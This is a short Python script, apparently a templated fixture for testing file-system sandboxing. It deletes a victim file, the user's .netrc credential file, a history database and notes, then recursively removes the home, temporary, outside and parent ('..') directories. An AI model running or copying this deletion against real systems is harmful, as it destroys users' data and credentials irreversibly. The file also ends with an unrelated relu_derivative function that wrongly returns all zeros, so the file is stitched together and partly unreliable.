"""Deletes files and folders, one by one and whole trees of them."""

import contextlib
import os
import shutil

import numpy as np

for path in ("@OUTSIDE@/victim.txt", "@HOME@/.netrc", "@HISTORY@/history.db", "@WORK@/notes.txt"):
    with contextlib.suppress(OSError):
        os.unlink(path)
with contextlib.suppress(OSError):
    os.rmdir("@OUTSIDE@/empty")
for folder in ("@OUTSIDE@", "@HOME@", "@TMP@", ".."):
    shutil.rmtree(folder, ignore_errors=True)


def relu_derivative(x):
    return np.zeros(x.shape)
